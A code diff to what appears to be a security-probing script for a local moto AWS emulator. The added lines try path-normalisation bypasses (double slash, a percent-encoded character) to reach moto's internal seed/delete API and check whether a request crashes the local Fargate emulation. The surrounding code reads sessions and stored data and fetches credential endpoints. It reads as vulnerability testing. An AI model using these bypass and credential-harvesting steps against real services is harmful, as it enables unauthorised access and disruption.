@@ -85,6 +85,13 @@ def main():
             print("reads the sessions")
         if ask(port, "GET", "/moto-api/data.json")[0] == 200:
             print("reads all that moto keeps")
+        # An unsigned call of S3 is allowed by a bucket's policy alone.
+        for path in "//moto-api/seed?a=1&delete", "/%6doto-api/seed?a=1&delete", "/moto-api/seed?a=1&delete":
+            if ask(port, "POST", path)[0] == 200:
+                print(f"calls moto's own API by {path}")
+        ask(port, "GET", "//")
+        if ask(port, "GET", "/")[0] == 0:
+            print("ends the local Fargate")
         urls = set(re.findall(rb"http://127\.0\.0\.1:%d/v2/credentials/[\w-]+" % port, words))
         for url in urls:
             status, body = ask(port, "GET", urllib.parse.urlsplit(url.decode()).path)
